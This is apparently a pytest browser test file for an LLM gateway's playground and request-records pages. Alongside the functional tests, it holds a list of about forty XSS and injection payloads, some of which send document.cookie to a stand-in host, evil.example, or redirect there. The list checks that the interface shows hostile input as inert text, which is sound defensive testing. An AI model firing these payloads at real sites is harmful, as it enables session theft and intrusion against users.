"""Play and records in a real browser: an escalation is seen, a model is stopped, hostile words stay words."""

from __future__ import annotations

from typing import Any

import pytest

from tests.auth.user_client import Browser
from tests.graphql.graphql_client import graphql
from tests.running_server import Served, until
from tests.studio.browser import tab

pytestmark = pytest.mark.browser
ESCALATES = (
    "Why is the sky blue? [[echo/small: say Because of the ocean]] [[echo/small: logprob -3]]"
    " [[echo/large: say Air scatters blue light.]]"
)
MARKS = ("<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<iframe srcdoc='<script>{}</script>'>")
CALLS = ("alert(1)", "fetch('https://evil.example/?'+document.cookie)", "location='https://evil.example'")
HOSTILE = (
    *(mark.format(call) for mark in MARKS for call in CALLS),
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "![beacon](https://evil.example/pixel?q=secret)",
    "<a href='https://evil.example' ping='https://evil.example/p'>x</a>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action=https://evil.example><button>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<video src=https://evil.example/x autoplay>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`${alert(1)}`",
    "'\"><b onmouseover=alert(1)>x",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "\u202egnp.exe\u2066 reversed \u2069",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "$$\\href{javascript:alert(1)}{x}$$",
    "A" * 50_000,
)


def test_an_escalation_is_seen_with_its_attempts_and_exact_costs(browser: Any, server: Served, anna: Browser) -> None:
    with tab(browser, server, anna) as opened:
        opened.open("/play?m=auto&m=echo/small")
        opened.page.get_by_label("Prompt").fill(ESCALATES)
        opened.page.get_by_role("button", name="Run").click()
        auto = opened.page.get_by_role("region", name="Answer of auto")
        auto.get_by_text("Air scatters blue light.", exact=True).wait_for()
        auto.get_by_text("not trusted", exact=True).wait_for()
        auto.get_by_text("answered after a smaller model was not trusted").wait_for()
        small = opened.page.get_by_role("region", name="Answer of echo/small")
        small.get_by_text("Because of the ocean", exact=True).wait_for()
        auto.get_by_text("Why this model: 2 considered").click()
        auto.get_by_text("can answer").first.wait_for()
        auto.get_by_text("Copy as code").click()
        auto.get_by_role("button", name="Python").click()
        auto.get_by_text("from openai import OpenAI").wait_for()
        opened.picture("play-escalation")
        assert opened.inaccessible() == []
        auto.get_by_role("link", name="Open its record").click()
        opened.page.get_by_role("heading", name="What it caused").wait_for()
        assert opened.page.url.startswith(f"{server.url}/records/") and "sky" not in opened.page.url
        opened.page.get_by_role("button", name="Show contents").click()
        opened.page.get_by_text("Because of the ocean").first.wait_for()
        opened.picture("record")
        assert opened.inaccessible() == []
        assert opened.wrong() == []


def test_stop_stops_the_model(browser: Any, server: Served, anna: Browser) -> None:
    with tab(browser, server, anna) as opened:
        opened.open("/play?m=echo/large")
        opened.page.get_by_label("Prompt").fill("stopped [[pace 0.05]] [[repeat 9999]]")
        opened.page.get_by_role("button", name="Run").click()
        opened.page.get_by_text("stoppedstopped").wait_for()
        opened.page.get_by_role("button", name="Stop").click()
        opened.page.get_by_text("Stopped. The model was cancelled.").wait_for()
        until(lambda: _last(server, "echo/large")["status"] == 499)
        assert opened.wrong() == []


def test_what_a_request_is_refused_for_is_said_in_words(browser: Any, server: Served, anna: Browser) -> None:
    with tab(browser, server, anna) as opened:
        opened.open("/play?m=auto")
        opened.page.get_by_label("Prompt").fill("Hello [[fail refused]]")
        opened.page.get_by_role("button", name="Run").click()
        opened.page.get_by_role("alert").filter(has_text="refuses").wait_for()


def test_new_records_wait_until_they_are_asked_for(browser: Any, server: Served, anna: Browser) -> None:
    with tab(browser, server, anna) as opened:
        opened.open("/records?requestedModel=echo%2Fsmall")
        rows = opened.page.locator("tbody tr")
        before = rows.count()
        for _ in range(3):
            server.chat("echo/small", "one more")
        opened.page.get_by_role("button", name="3 new").wait_for()
        assert rows.count() == before
        opened.page.get_by_role("button", name="3 new").click()
        until(lambda: rows.count() == before + 3)
        assert opened.wrong() == []


def test_hostile_words_do_nothing_wherever_they_stand(browser: Any, server: Served, anna: Browser) -> None:
    assert len(HOSTILE) >= 40
    with tab(browser, server, anna) as opened:
        opened.open("/play?m=echo/small")
        for words in HOSTILE:
            opened.page.get_by_label("Prompt").fill(words)
            opened.page.get_by_role("button", name="Run").click()
            opened.page.get_by_role("link", name="Open its record").wait_for()
        for words in HOSTILE[:12]:
            server.chat(words, words)
            server.ask("/v1/chat/completions", {"model": "echo/small", "messages": []}, x_sizewise_session="x")
        opened.open("/records")
        opened.page.get_by_text("<script>").first.wait_for()
        for trace in _traces(server, 4):
            opened.open(f"/records/{trace}")
            opened.page.get_by_role("button", name="Show contents").click()
            opened.page.get_by_text("Request", exact=True).wait_for()
        assert opened.wrong() == []


def _last(server: Served, model: str) -> dict[str, Any]:
    query = "query($m: String) { records(last: 1, filter: { requestedModel: $m }) { rows { status } } }"
    found: dict[str, Any] = graphql(server, query, m=model).data["records"]["rows"][0]
    return found


def _traces(server: Served, last: int) -> list[str]:
    query = "query($n: Int, $f: RecordFilter) { records(last: $n, filter: $f) { rows { trace } } }"
    chosen = {"requestedModel": "echo/small", "failed": False}
    return [row["trace"] for row in graphql(server, query, n=last, f=chosen).data["records"]["rows"]]
